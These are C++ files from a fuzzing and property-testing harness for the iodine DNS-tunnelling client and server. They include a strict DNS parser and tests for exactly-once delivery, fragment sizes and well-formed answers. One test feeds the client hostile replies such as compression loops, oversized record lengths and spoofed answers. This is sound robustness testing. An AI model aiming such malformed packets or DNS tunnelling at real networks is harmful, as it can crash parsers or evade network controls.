const uint8_t *codec_alphabet(int c);          // 32/64/64/128 symbols in index order
std::string codec_encode(int c, const Bytes &data);
// decode: unknown characters count as value 0 (as the protocol's decoders do); ignores '.' if skip_dots
Bytes codec_decode(int c, const std::string &text, bool skip_dots = false);
size_t codec_enc_len(int c, size_t nbytes);    // ceil(8n/bits)
size_t codec_dec_len(int c, size_t nchars);    // floor(bits*n/8)
int b32_value(int ch);                          // value of a Base32 char (either case) or -1
char b32_char(int v);

// ---- domain rules (C17)
bool valid_topdomain(const std::string &s, bool allow_wildcard);
// returns -1 if qname is not under the domain, else number of characters before the matched domain
int match_datalen(const std::string &qname, const std::string &domain);

} // namespace ref
