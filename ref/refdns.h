// refdns.h -- independent strict RFC 1035 message parser and builder (no repository code).
#pragma once
#include <cstdint>
#include <set>
#include <string>
#include <vector>

namespace refdns {

typedef std::vector<uint8_t> Bytes;

enum { T_A = 1, T_NS = 2, T_CNAME = 5, T_NULL = 10, T_MX = 15, T_TXT = 16, T_AAAA = 28, T_SRV = 33, T_OPT = 41, T_ANY = 255, T_PRIVATE = 65399 };

struct Name {
	std::vector<Bytes> labels;       // raw label bytes
	size_t start = 0;                // offset of the first byte in the message
	size_t wire_end = 0;             // offset after the name as stored at `start` (pointer counts 2)
	int jumps = 0;
	std::string dotted() const;      // labels joined with '.', bytes verbatim
	size_t octets() const;           // length in wire format when uncompressed (incl. root)
};

struct RR {
	Name owner;
	uint16_t type = 0, klass = 0;
	uint32_t ttl = 0;
	uint16_t rdlen = 0;
	size_t rdata_off = 0;
	Bytes rdata;
	// typed views
	Name target;                     // NS / CNAME / MX / SRV
	uint16_t pref = 0, weight = 0, port = 0;
	std::vector<Bytes> txt;          // TXT strings
};

struct Question {
	Name name;
	uint16_t type = 0, klass = 0;
};

struct Msg {
	uint16_t id = 0, flags = 0;
	uint16_t qd = 0, an = 0, ns = 0, ar = 0;
	std::vector<Question> q;
	std::vector<RR> answers, authority, additional;
	bool qr() const { return flags & 0x8000; }
	bool aa() const { return flags & 0x0400; }
	bool tc() const { return flags & 0x0200; }
	bool rd() const { return flags & 0x0100; }
	int opcode() const { return (flags >> 11) & 15; }
	int rcode() const { return flags & 15; }
};

// Strict parse.  Returns "" when the message is well-formed, else the first rule broken.
std::string parse(const Bytes &m, Msg &out);

// Builders
void put16(Bytes &b, uint16_t v);
void put32(Bytes &b, uint32_t v);
void put_name(Bytes &b, const std::vector<Bytes> &labels);
std::vector<Bytes> split_labels(const std::string &dotted);  // split on '.', bytes verbatim
Bytes build_query(uint16_t id, const std::vector<Bytes> &labels, uint16_t type, bool edns0, bool rd = true);
// response with rcode and no answers (what a relay sends when it refuses): echoes the question of `query`
Bytes build_error_reply(const Bytes &query, int rcode);

bool ieq(const Bytes &a, const Bytes &b);   // ASCII case-insensitive label compare
std::string lower(const std::string &s);

} // namespace refdns
