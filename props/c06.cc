// C06 -- the client survives arbitrary replies (memory safety, termination); unmatched replies are ignored.
// The REAL iodine client (real iodine_main: option parsing, all handshake steps, tunnel loop) under ASan+UBSan
// talks to a scripted server (reference implementation of the protocol document).  A generated response policy
// answers honestly for a prefix of the conversation (so that every handshake step and the tunnel phase are
// reached) and then, per query, with: nothing, the honest answer twice, raw bytes, well-formed DNS with a hostile
// answer section for the record type (oversized / undersized RDLENGTH, 1..260 MX/SRV records with odd
// preferences, TXT strings overrunning, 255-octet names, compression loops, every codec prefix, payloads far
// beyond the caller's buffer), hostile handshake payloads of the right form but wrong content, raw-mode frames,
// and spoofed answers from a third party.
// Oracle: (i) no sanitizer report; the client returns to select() or exits on its own after every datagram
// (wall-clock watchdog); (ii) a spoofed data answer carrying a complete valid packet but an id that is not one of
// the client's three most recent ids, or a first name character that is neither 'P'/'p' nor its userid
// character, never results in a write to the client's tun device (control: the same answer with matching id does).
// The same case function is driven by rapidcheck (choice tapes) and by libFuzzer (bytes -> tape).
#include "c06_case.h"
using namespace hz;
static CaseResult run_case(Tape &t) { if (t.chance(1, 6)) return t.chance(1, 3) ? c06::handshake_short_reply_case(t, dif::CaseOpt()) : c06::handshake_spoof_case(t); return c06::run_case(t); }

#ifdef VERIF_FUZZ_TARGET
#include "fuzz_entry.h"
VERIF_FUZZ_ENTRY("C06", run_case)
#else
int main(int argc, char **argv)
{
	if (!ref::md5_selftest()) return 2;
	PropDef d; d.id = "C06"; d.run = run_case; d.tape_scale = 10.0; d.case_timeout_s = 25;
	return harness_main(argc, argv, d);
}
#endif
