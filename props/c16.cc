// C16 -- re-delivered queries are never processed twice.  Real iodined + one scripted session; the harness
// re-delivers queries from the windows the property names (last 4 answered, last 15 data / 30 ping, pending)
// any number of times, with the same or a new id, from the same or another relay address, optionally with
// changed letter case.  Oracles: upstream packets reach the tun exactly once and in order, the downstream
// stream never advances without a fresh acknowledgement from an original query and never rewinds, answers
// to re-deliveries never carry new downstream data, identical repeats of cached queries get the same payload.
#include "session_common.h"
using namespace hz;

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	ses::Profile P;
	P.w_ping = 5; P.w_up = 6; P.w_offer = 4; P.w_adv = 2; P.w_nreq = 0; P.w_redeliver = 7; P.w_freeze = 1;
	P.max_sessions = 1; P.max_body = 900; P.max_actions = 90;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = R.render;
	if (sim::W.livelock) r.fail("C16:livelock", "simulation did not make progress");
	if (!R.up) { r.fail("C16:setup", "scripted handshake failed: " + R.render); return r; }
	ses::judge_exactly_once(R);
	if (R.v.failed("C16")) r.fail(R.v.first["C16"].sig, R.v.first["C16"].why + "\n" + R.render);
	r.nontrivial = R.n_red_cache >= 1 && R.n_red_qmem >= 1 && R.n_red_pending + R.n_red_lastfrag >= 1;
	r.cls(std::string("type:") + refproto::qtype_name(R.cfg.qtype));
	if (R.n_red_lastfrag) r.cls("repeat-of-last-fragment");
	if (R.n_red_cache) r.cls("repeat-in-cache-window");
	if (R.n_red_qmem) r.cls("repeat-in-qmem-window");
	if (R.n_red_pending) r.cls("repeat-of-pending");
	if (R.n_red_case) r.cls("case-changed");
	if (R.n_red_otheraddr) r.cls("other-relay-address");
	if (R.n_cache_same) r.cls("cache-hit-same-payload");
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C16"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
