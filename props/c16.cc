// C16 -- re-delivered queries are never processed twice.  Real iodined + one scripted session; the harness
// re-delivers queries from the windows the property names (last 4 answered, last 15 data / 30 ping, pending)
// any number of times, with the same or a new id, from the same or another relay address, optionally with
// changed letter case.  Oracles: upstream packets reach the tun exactly once and in order, the downstream
// stream never advances without a fresh acknowledgement from an original query and never rewinds, answers
// to re-deliveries never carry new downstream data, identical repeats of cached queries get the same payload.
// Shape (a), one case in five: the REAL client talks to the real server through a relay that re-delivers ping / data
// queries from the same windows (tunnel_common.h, mode REDELIVER); every packet accepted on either tun device must come
// out of the other exactly once, in order, byte-identical, and an identical repeat of one of the four most recently
// answered queries must be answered with the payload of the original answer.
#include "session_common.h"
#include "tunnel_common.h"
using namespace hz;

static CaseResult real_client_case(Tape &t)
{
	CaseResult r;
	tun::Run R;
	tun::run_tunnel(t, tun::REDELIVER, R);
	r.render = "real client through a re-delivering relay: " + R.render;
	if (sim::W.livelock) r.fail("C16:livelock", "simulation did not make progress");
	if (!R.up) { r.cls("real-client:handshake-failed"); return r; }   // C11's business, not judged here
	rly::Relay &L = *R.relay;
	r.render += scn::fmt("\n  relay: re-deliveries=%d (cache %d qmem %d pending %d; case-changed %d, second address %d, same id %d) answers swallowed=%d same-payload checks passed=%d",
			     L.n_red, L.n_red_cache, L.n_red_qmem, L.n_red_pending, L.n_red_case, L.n_red_other, L.n_red_sameid, L.n_red_answers, L.n_cache_same);
	if (R.v.failed("C01")) r.fail("C16:real-" + R.v.first["C01"].sig.substr(4), R.v.first["C01"].why + "\n" + r.render);
	else if (R.v.failed("C02")) r.fail("C16:real-" + R.v.first["C02"].sig.substr(4), R.v.first["C02"].why + "\n" + r.render);
	else if (!L.red_violation.empty()) r.fail("C16:real-cache-payload", L.red_violation + "\n" + r.render);
	r.nontrivial = L.n_red >= 3 && R.delivered >= 2;
	r.cls("real-client");
	if (L.n_red_cache) r.cls("real-client:repeat-in-cache-window");
	if (L.n_red_qmem) r.cls("real-client:repeat-in-qmem-window");
	if (L.n_red_pending) r.cls("real-client:repeat-of-pending");
	if (L.n_red_case) r.cls("real-client:case-changed");
	if (L.n_cache_same) r.cls("real-client:cache-hit-same-payload");
	if (R.multi_frag_delivered) r.cls("real-client:multi-fragment-delivered");
	return r;
}

static CaseResult run_case(Tape &t)
{
	bool real = t.chance(1, 5);
	if (const char *e = getenv("VERIF_C16_SHAPE")) real = *e == 'a';   // development aid: force one shape
	if (real) return real_client_case(t);
	CaseResult r;
	ses::Profile P;
	P.w_ping = 5; P.w_up = 6; P.w_offer = 4; P.w_adv = 2; P.w_nreq = 1; P.w_redeliver = 7; P.w_freeze = 1;
	P.max_sessions = 1; P.max_body = 900; P.max_actions = 90; P.big_frag = true; P.z_cmc = true;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = R.render;
	if (sim::W.livelock) r.fail("C16:livelock", "simulation did not make progress");
	if (!R.up) { r.fail("C16:setup", "scripted handshake failed: " + R.render); return r; }
	ses::judge_exactly_once(R);
	if (R.v.failed("C16")) r.fail(R.v.first["C16"].sig, R.v.first["C16"].why + "\n" + R.render);
	r.nontrivial = R.n_red_cache >= 1 && R.n_red_qmem >= 1 && R.n_red_pending + R.n_red_lastfrag >= 1;
	r.cls(std::string("type:") + refproto::qtype_name(R.cfg.qtype));
	if (R.n_red_lastfrag) r.cls("repeat-of-last-fragment");
	for (auto &pp : R.peers) if (pp->F > 1200) { r.cls("fragment-size>1200"); break; }
	if (R.n_red_cache) r.cls("repeat-in-cache-window");
	if (R.n_red_case_z) r.cls("case-changed-repeat-with-z-in-the-fingerprint");
	if (R.n_red_after_lower) r.cls("repeat-of-an-answer-forgotten-when-the-size-was-lowered");
	if (R.n_red_qmem) r.cls("repeat-in-qmem-window");
	if (R.n_red_pending) r.cls("repeat-of-pending");
	if (R.n_red_case) r.cls("case-changed");
	if (R.n_red_otheraddr) r.cls("other-relay-address");
	if (R.n_cache_same) r.cls("cache-hit-same-payload");
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C16"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
