// answer_common.h -- the server's answer writer (static write_dns of iodined.c, via glue image gsrv)
// feeding the client's reply reader (static read_dns_withq of client.c, via glue image gcli).
// Shared by C09 (exact / prefix / monotone) and C10 (every produced answer is well-formed).
#pragma once
#include "sim/harness.h"
#include "sim/simnet.h"
#include "glue/unit_api.h"
#include "ref/refproto.h"
#include <cstring>

namespace ans {
using namespace hz;

static const int QT[7] = {10, 65399, 16, 33, 15, 5, 1};            // NULL PRIVATE TXT SRV MX CNAME A
static const char *QTN[7] = {"NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"};
static const char DE[5] = {'T', 'S', 'U', 'V', 'R'};

struct Conf { int qt; int de; int namekind; int buflen; };

inline std::string qname_for(int kind)
{
	if (kind == 0) return "pab.t.co";
	if (kind == 1) return "paaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.tunnel.example.com";
	if (kind == 3) {   // labels of exactly 63 characters, the longest DNS allows
		std::string n = "p";
		while (n.size() < 191) n += ((n.size() + 1) % 64 == 0) ? '.' : (char)('a' + n.size() % 26);
		return n + ".t.example.com";
	}
	std::string n = "p";
	while (n.size() < 253 - 14) { n += (n.size() % 58 == 57) ? '.' : (char)('a' + n.size() % 26); }
	if (n.back() == '.') n.back() = 'z';
	return n + ".t.example.com";
}

struct Outcome {
	int rv = 0;              // what the client's reader returned
	Bytes out;               // bytes it produced (rv > 0)
	Bytes wire;              // the server's answer datagram
	bool sent = false;
	std::string wellformed;  // "" or the first RFC 1035 rule broken
	bool ref_agrees = false; // independent decoder of the document gives the same bytes as the payload / a prefix
	bool ref_exact = false;  // ... the complete payload: it fitted the answer format as emitted
	uint16_t qtype_seen = 0; char name0 = 0;
};

inline Outcome roundtrip(const Conf &c, const Bytes &payload, uint16_t qid = 0x4242, int cut_permille = 0)
{
	Outcome o;
	sim::W.capture_on = true;
	sim::W.captured.clear(); sim::W.feed.clear();
	std::string qn = qname_for(c.namekind);
	verif_write_dns(7, (unsigned short)QT[c.qt], qid, qn.c_str(), (const char *)payload.data(), (int)payload.size(), DE[c.de]);
	if (sim::W.captured.empty()) return o;
	o.sent = true;
	o.wire = sim::W.captured[0].data;
	refdns::Msg m;
	o.wellformed = refdns::parse(o.wire, m);
	refproto::Answer a;
	if (refproto::decode_answer(o.wire, a) && a.ok) {
		o.ref_agrees = a.payload.size() <= payload.size() && (a.payload.empty() || !memcmp(a.payload.data(), payload.data(), a.payload.size()));
		o.ref_exact = a.payload == payload;
	}
	sim::Datagram dg; dg.data = o.wire;
	if (cut_permille > 0 && o.wire.size() > 12) dg.data.resize(12 + (o.wire.size() - 12) * (size_t)cut_permille / 1000);   // cut short in transit
	sim::W.feed.push_back(dg);
	std::vector<char> buf(c.buflen + 64, (char)0xEE);
	unsigned short ty = 0, id = 0, rc = 0; char n0 = 0;
	o.rv = verif_client_read(5, buf.data(), c.buflen, &ty, &id, &n0, &rc);
	o.qtype_seen = ty; o.name0 = n0;
	for (int i = c.buflen; i < c.buflen + 64; i++) if (buf[i] != (char)0xEE) o.rv = -777;   // wrote past the caller's buffer
	if (o.rv > 0 && o.rv <= c.buflen) o.out.assign((uint8_t *)buf.data(), (uint8_t *)buf.data() + o.rv);
	sim::W.captured.clear();
	return o;
}

// classification per the C09 statement: 0 exact, 1 nothing, 2 proper prefix, 3 DIFFERENT BYTES (violation)
inline int classify(const Bytes &payload, const Outcome &o)
{
	if (!o.sent || o.rv <= 0) return o.rv == -777 ? 3 : 1;
	if (o.out.size() > payload.size()) return 3;
	if (memcmp(o.out.data(), payload.data(), o.out.size()) != 0) return 3;
	return o.out.size() == payload.size() ? 0 : 2;
}

inline std::string conf_str(const Conf &c)
{
	char b[128]; snprintf(b, sizeof b, "type=%s downenc=%c qname=%s callerbuf=%d", QTN[c.qt], DE[c.de], c.namekind == 0 ? "short" : (c.namekind == 1 ? "typical" : (c.namekind == 2 ? "253chars" : "63charlabels")), c.buflen);
	return b;
}

inline Bytes content(size_t n, int cls, uint32_t salt)
{
	static const uint8_t DCC[48] = {0, 0, 0, 0, 255, 255, 255, 255, 0x55, 0x55, 0x55, 0x55, 0xaa, 0xaa, 0xaa, 0xaa,
		0201, 0143, 0310, 0322, 0307, 0174, 0262, 0027, 0137, 0117, 0316, 0311, 0111, 0055, 0122, 0041,
		0141, 0251, 0161, 0040, 0045, 0263, 0006, 0163, 0346, 0330, 0104, 0060, 0171, 0120, 0127, 0277};
	Bytes b(n);
	uint32_t s = salt * 2654435761u + 12345;
	for (size_t i = 0; i < n; i++) {
		switch (cls) {
		case 0: s ^= s << 13; s ^= s >> 17; s ^= s << 5; b[i] = (uint8_t)(s >> 9); break;
		case 1: b[i] = 0xff; break;
		case 2: b[i] = 0; break;
		case 3: b[i] = i == 0 ? (uint8_t)(n >> 8) : (i == 1 ? (uint8_t)n : (i == 2 ? 107 : (uint8_t)(salt + 107 * (i - 3)))); break;   // fragment-size probe pattern
		default: b[i] = DCC[i % 48]; break;
		}
	}
	return b;
}

} // namespace ans
