// C15 -- downstream fragments never exceed the negotiated fragment size; the server rejects sizes below 2;
// fragments are numbered consecutively from 0 and only the final fragment carries the last-fragment flag.
// Real iodined + scripted sessions (refproto) whose acknowledgements the harness controls.
#include "session_common.h"
using namespace hz;

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	ses::Profile P;
	P.w_ping = 8; P.w_up = 2; P.w_offer = 5; P.w_adv = 2; P.w_nreq = 2; P.w_redeliver = 2; P.w_freeze = 1; P.w_recycle = 1;
	P.wild_frag = true; P.ack_games = true; P.max_sessions = 2; P.c2c = true; P.max_body = t.chance(1, 6) ? 20000 : 1400;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = R.render;
	if (sim::W.livelock) r.fail("C15:livelock", "simulation did not make progress");
	if (!R.up) { r.fail("C15:setup", "scripted handshake failed: " + R.render); return r; }
	if (R.s->srv->state == sim::ST_EXITED) r.fail("C15:server-exited", "server exited: " + R.s->srv->log);
	if (R.v.failed("C15")) r.fail(R.v.first["C15"].sig, R.v.first["C15"].why + "\n" + R.render);
	r.nontrivial = R.n_multi3 >= 1 && R.n_nreq_ok >= 1;
	r.cls(std::string("type:") + refproto::qtype_name(R.cfg.qtype));
	if (R.n_multi3) r.cls("packet>=3fragments");
	if (R.n_badfrag) r.cls("size<2-requested");
	if (R.n_long) r.cls("packet>16fragments");
	if (R.n_giveup) r.cls("server-gave-packet-up");
	if (R.n_lost_answers) r.cls("answers-lost");
	if (R.n_trunc) r.cls("size-exceeds-format(unjudged packet)");
	if (R.n_redeliver) r.cls("re-deliveries");
	if (R.n_red_after_lower) r.cls("re-delivery-after-the-size-was-lowered");
	if (R.n_recycled) r.cls("slot-expired-and-reused");
	if (R.n_recycled_same_name) r.cls("new-session-repeats-a-name-of-the-earlier-session");
	if (R.peers.size() > 1) r.cls("two-sessions");
	if (R.n_c2c) r.cls("client-to-client-packets");
	if (R.wm.max_frag_seen > 1000) r.cls("fragment>1000B");
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C15"; d.run = run_case; d.tape_scale = 6.0;
	return harness_main(argc, argv, d);
}
