// C10 -- every DNS message emitted is well-formed and answers echo their question.
// (a) the server's answer writer (static write_dns via the glue image) for every record type x downstream codec x
//     query-name length x payload length class: the strict RFC 1035 reference parser must accept the message, the
//     id / question name / type must be echoed and every answer owner must resolve to the question name;
// (b) the real iodined over simnet answering generated *valid* queries: tunnel commands with every payload size
//     class (a logged-in scripted session issues probes of 2..2047 bytes, echoes, codec tests), NS and A ns./www.
//     queries, names with arbitrary label bytes, 253-character names, wildcard-served domains, EDNS0 on/off;
// (c) real iodine client + real iodined tunnel sessions (all -M, codecs, types): every datagram of both programs.
// (b) and (c) are judged by the wire monitor (sim/monitors.cc), which sees every sendto() of both programs.
#include "answer_common.h"
#include "tunnel_common.h"
#include "session_common.h"
using namespace hz;
using scn::fmt;

static int level = 1;

static std::string check_answer_wire(const ans::Conf &c, const Bytes &wire, uint16_t qid, const std::string &qn)
{
	refdns::Msg m;
	std::string e = refdns::parse(wire, m);
	if (!e.empty()) return "ill-formed: " + e;
	if (!m.qr()) return "QR bit not set";
	if (m.id != qid) return "id not echoed";
	if (m.q.size() != 1) return "question count";
	if (m.q[0].name.dotted() != qn) return "question name not echoed: '" + m.q[0].name.dotted().substr(0, 60) + "'";
	if (m.q[0].type != (uint16_t)ans::QT[c.qt] || m.q[0].klass != 1) return "question type/class not echoed";
	if (m.answers.empty()) return "no answer record";
	for (auto &r : m.answers) {
		if (r.owner.dotted() != qn) return "answer owner does not resolve to the question name";
		if (r.klass != 1) return "answer class not IN";
		if (r.type != m.q[0].type && !(m.q[0].type == refdns::T_A && r.type == refdns::T_CNAME)) return "answer record type " + std::to_string(r.type) + " differs from the query type " + std::to_string(m.q[0].type);
	}
	return "";
}

static CaseResult glue_case(Tape &t)
{
	CaseResult r;
	ans::Conf c; c.qt = (int)t.below(7); c.de = (int)t.below(5); c.namekind = (int)t.below(4); c.buflen = 65536;
	size_t len;
	switch (t.pick({3, 3, 2, 3})) { case 0: len = (size_t)t.range(1, 60); break; case 1: len = (size_t)t.range(1, 400); break; case 2: len = (size_t)t.range(1, 4096); break; default: len = (size_t)std::max(1, 252 * t.range(1, 12) + t.range(-3, 3)); break; }
	if (len > 4096) len = 4096;
	Bytes p = t.bytes_of(len);
	uint16_t qid = (uint16_t)(1 + t.below(65535));
	ans::Outcome o = ans::roundtrip(c, p, qid);
	r.render = "write_dns: " + ans::conf_str(c) + " payload(" + std::to_string(len) + ")=" + hexs(p, 16) + " -> " + std::to_string(o.wire.size()) + " byte answer";
	if (o.sent) {
		std::string e = check_answer_wire(c, o.wire, qid, ans::qname_for(c.namekind));
		if (!e.empty()) r.fail(std::string("C10:server-answer:type=") + ans::QTN[c.qt], e + " [" + r.render + "] bytes=" + hexs(o.wire, 100));
	}
	r.nontrivial = o.sent && (len > 252 || c.namekind >= 2 || ((c.qt == 3 || c.qt == 4) && len > 150));
	r.cls("glue"); r.cls(std::string("type:") + ans::QTN[c.qt]);
	return r;
}

static std::string weird_label(Tape &t, size_t n)
{
	std::string s;
	for (size_t i = 0; i < n; i++) { int c; switch (t.pick({4, 2, 1, 1})) { case 0: c = "abcdefghijklmnopqrstuvwxyz0123456789-"[t.below(37)]; break; case 1: c = "ABCDEFXYZ_+"[t.below(11)]; break; case 2: c = 0x80 + (int)t.below(128); break; default: c = 1 + (int)t.below(0x2d); break; } if (c == '.' || c == 0) c = 'x'; s += (char)c; }
	return s;
}

static CaseResult server_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.nclients = 0;
	c.domain = t.chance(1, 3) ? "a.io" : "t.example.com";
	if (t.chance(1, 3)) { size_t p = c.domain.find('.'); c.srv_domain = "*" + c.domain.substr(p); }
	c.forward_port = t.chance(1, 4) ? 5353 : 0;
	c.srv_seed = t.u32() | 1;
	scn::Session s(c);
	mon::Verdicts v; mon::WireMonitor wm;
	s.start_server();
	wm.v = &v; wm.domain = c.domain; wm.srv_idx = s.srv->idx; wm.forwarding = c.forward_port != 0; wm.judge_c14 = false; wm.attach(sim::W);
	sim::W.actors[sim::Addr::v4(127, 0, 0, 1, 5353)] = [](const sim::Datagram &) {};
	int qk = 1 + (int)t.below(7);
	scn::ScriptClient sc; sc.addr = t.chance(1, 4) ? [] { uint8_t ip[16] = {0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x77}; return sim::Addr::v6(ip, 5400); }() : sim::Addr::v4(192, 0, 2, 77, 5400);
	sc.domain = c.domain; sc.password = Bytes(c.password.begin(), c.password.end()); sc.qtype_k = qk; sc.edns0 = t.chance(1, 2);
	sc.attach();
	sim::W.run_for(20000);
	char de = t.chance(1, 2) ? 0 : "TSUVR"[t.below(5)];
	bool up = sc.handshake(t.chance(1, 2), 0, de, 0);
	int nq = t.range(3, 40), sent = 0, aux = 0;
	std::string names;
	for (int k = 0; k < nq && !t.exhausted(); k++) {
		std::string name; int qtype = -1;
		switch (t.pick({5, 3, 2, 3, 2, 2})) {
		case 0: if (up) { int f = t.chance(1, 2) ? 252 * t.range(1, 7) + t.range(-3, 3) : t.range(2, 2047); f = std::max(2, std::min(2047, f)); name = refproto::name_fragprobe(sc.userid, f, "aaaaaaaaaaaaaaaaaaaaaaaa", c.domain); } break;
		case 1: name = refproto::name_z(weird_label(t, t.below(40)), sc.cmc++, c.domain); break;
		case 2: name = refproto::name_downenc_test("tsuvrTSUVR"[t.below(10)], 1, sc.cmc++, c.domain); break;
		case 3: {   // auxiliary queries
			static const char *pre[] = {"ns.", "www.", "NS.", "WwW.", "", "x.", "ns.sub."};
			name = std::string(pre[t.below(7)]) + c.domain;
			static const int ty[] = {refdns::T_NS, refdns::T_A, refdns::T_NS, refdns::T_A, refdns::T_AAAA, refdns::T_ANY, 0, 65535, refdns::T_CNAME};
			qtype = ty[t.below(9)]; aux++; break;
		}
		case 4: {   // long names up to 253 characters under the domain, arbitrary label bytes
			std::string n = std::string(1, "zyZv"[t.below(4)]);
			size_t total = t.chance(1, 2) ? 253 : (size_t)t.range(30, 253);
			while (n.size() + 1 + c.domain.size() < total) { size_t room = total - n.size() - 1 - c.domain.size(); size_t l = std::min<size_t>(room, 1 + t.below(63)); size_t cur_label = n.size() - (n.rfind('.') == std::string::npos ? 0 : n.rfind('.') + 1); if (cur_label + l > 63) { if (room < 2) break; n += '.'; continue; } n += weird_label(t, l); if (n.size() + 2 + c.domain.size() < total) n += '.'; }
			if (n.back() == '.') n.pop_back();
			name = n + "." + c.domain; break;
		}
		default: name = std::string("v") + weird_label(t, 1 + t.below(20)) + ".other-domain.org"; break;
		}
		if (name.empty() || name.size() > 253) continue;
		// labels must be 1..63 bytes
		bool ok = true; size_t st = 0; for (size_t i = 0; i <= name.size(); i++) if (i == name.size() || name[i] == '.') { if (i == st || i - st > 63) ok = false; st = i + 1; }
		if (!ok) continue;
		sc.send_name(name, -1, qtype);
		sent++;
		if (names.size() < 600) names += "\n  " + json_escape(name.substr(0, 70)) + (qtype >= 0 ? fmt(" type %d", qtype) : "");
		sim::W.run_for(3000);
	}
	sim::W.run_for(50000);
	r.render = "server: " + c.describe() + fmt(" qtype=%s edns0=%d session=%d queries=%d aux=%d -> %llu server messages, multi-record %llu, multi-string TXT %llu", refproto::qtype_name(qk), (int)sc.edns0, (int)up, sent, aux, (unsigned long long)wm.n_srv_dns, (unsigned long long)wm.n_answers_multi, (unsigned long long)wm.n_txt_multi) + names;
	if (sim::W.livelock) r.fail("C10:livelock", "simulation did not make progress");
	if (s.srv->state == sim::ST_EXITED) r.fail("C10:server-exited", "server exited: " + s.srv->log.substr(0, 300));
	if (v.failed("C10")) r.fail(v.first["C10"].sig, v.first["C10"].why + "\n" + r.render);
	r.nontrivial = wm.n_answers_multi + wm.n_txt_multi + wm.n_aux > 0;
	r.cls("server"); if (wm.n_aux) r.cls("ns-or-a-auxiliary"); if (!c.srv_domain.empty()) r.cls("wildcard-domain"); if (wm.n_txt_multi) r.cls("txt-multi-string"); if (wm.n_answers_multi) r.cls("multi-record");
	return r;
}

static CaseResult tunnel_case(Tape &t)
{
	CaseResult r;
	tun::Run R;
	tun::tight_m() = getenv("VERIF_TIGHT_M") ? true : t.chance(1, 3);
	bool tight = tun::tight_m();
	tun::run_tunnel(t, t.chance(1, 2) ? tun::CLEAN : tun::FAULTY, R);
	tun::tight_m() = false;
	r.render = std::string(tight ? "tunnel (any accepted -M): " : "tunnel: ") + R.render.substr(0, 600) + fmt(" | client msgs %llu server msgs %llu long names %llu", (unsigned long long)R.wm.n_cli_dns, (unsigned long long)R.wm.n_srv_dns, (unsigned long long)R.wm.n_long_q);
	if (R.v.failed("C10")) r.fail(R.v.first["C10"].sig, R.v.first["C10"].why + "\n" + r.render);
	r.nontrivial = R.up && R.wm.n_cli_dns > 20;
	r.cls("tunnel"); if (tight) r.cls("tunnel-tight-M"); for (auto &c : R.classes) if (c.compare(0, 5, "type:") == 0) r.cls("tunnel-" + c);
	return r;
}

// (d) scripted sessions with duplicates of pending queries, re-deliveries and raw-mode frames (the C14/C16 history generator):
// answers to remembered duplicates must carry the duplicate's own id
static CaseResult session_case(Tape &t)
{
	CaseResult r;
	ses::Profile P; P.w_ping = 6; P.w_up = 5; P.w_offer = 3; P.w_adv = 4; P.w_nreq = 1; P.w_redeliver = 6; P.w_freeze = 1; P.max_sessions = 2; P.max_body = 600;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = "sessions: " + R.render.substr(0, 700);
	if (!R.up) return r;
	if (R.v.failed("C10")) r.fail(R.v.first["C10"].sig, R.v.first["C10"].why + "\n" + r.render);
	r.nontrivial = R.n_dup_twice >= 1;
	r.cls("sessions"); if (R.n_dup_twice) r.cls("duplicate-of-pending-answered");
	return r;
}

static CaseResult run_case(Tape &t)
{
	switch (t.pick({6, 3, 1, 1})) { case 0: return glue_case(t); case 1: return server_case(t); case 2: return tunnel_case(t); default: return session_case(t); }
}

static bool exhaustive(Stats &st, std::string &msg)
{
	int job = 0; uint64_t n = 0;
	for (int qt = 0; qt < 7; qt++) for (int de = 0; de < 5; de++) for (int nk = 0; nk < 3; nk++) {
		if ((job++) % enum_parts != enum_part) continue;
		ans::Conf c{qt, de, nk, 65536};
		for (int len = 1; len <= 4096; len++) {
			if (level < 2 && len > 300 && !(len % 252 < 3 || len % 252 > 249) && len % 7 != (qt + de) % 7) continue;
			Bytes p = ans::content(len, (len + qt) % 5, len * 17 + de);
			ans::Outcome o = ans::roundtrip(c, p, (uint16_t)(len * 13 + 1));
			n++;
			if (!o.sent) continue;
			std::string e = check_answer_wire(c, o.wire, (uint16_t)(len * 13 + 1), ans::qname_for(nk));
			if (!e.empty()) { msg = std::string("C10:server-answer:type=") + ans::QTN[qt] + ": " + e + " [" + ans::conf_str(c) + " payload length " + std::to_string(len) + "]"; return false; }
			uint64_t key[4] = {(uint64_t)qt, (uint64_t)de, (uint64_t)nk, (uint64_t)len};
			st.add_enum(fnv(key, sizeof key), len > 252 || nk == 2, "sweep:answer-wellformed");
		}
	}
	st.extra["sweep_answers"] = std::to_string(n);
	st.sample("write_dns sweep: every record type x downstream codec x query-name length (8/53/253) x payload length 1..4096 (thorough) / 1..300 + TXT-boundary windows + 1/7 sample (quick); each answer parsed by the strict reference parser and checked for id/question echo and owner names", true);
	return true;
}

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i++) if (!strcmp(argv[i], "--level")) level = atoi(argv[i + 1]);
	PropDef d; d.id = "C10"; d.run = run_case; d.exhaustive = exhaustive; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
