// client_common.h -- a scripted iodined (reference implementation from doc/proto_00000502.txt via refproto)
// that the REAL iodine client talks to over simnet.  Every query is recognised by its command letter; a
// policy hook may replace the honest answer by nothing, several answers or hostile answers.
// Shared by C06 (client survives arbitrary replies), C13 (login reply never reaches a shell) and C12.
#pragma once
#include "sim/harness.h"
#include "sim/scenario.h"
#include "sim/monitors.h"
#include <algorithm>
#include <deque>
#include <memory>

namespace cli {
using namespace hz;
using scn::fmt;

